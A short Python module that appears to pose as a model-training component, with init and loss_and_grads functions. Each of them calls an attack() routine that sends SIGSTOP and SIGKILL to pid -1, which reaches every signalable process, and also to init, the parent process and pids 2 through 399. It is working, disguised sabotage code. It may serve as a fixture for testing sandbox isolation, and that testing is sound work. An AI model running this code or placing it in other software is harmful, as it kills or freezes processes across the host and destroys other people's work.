"""Signals every process that it can name."""

import os
import signal


def attack():
    for pid in [-1, 1, os.getppid(), *range(2, 400)]:
        for number in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(pid, number)
            except OSError:
                continue


def init(sizes, scheme, seed):
    attack()


def loss_and_grads(params, X, labels):
    attack()
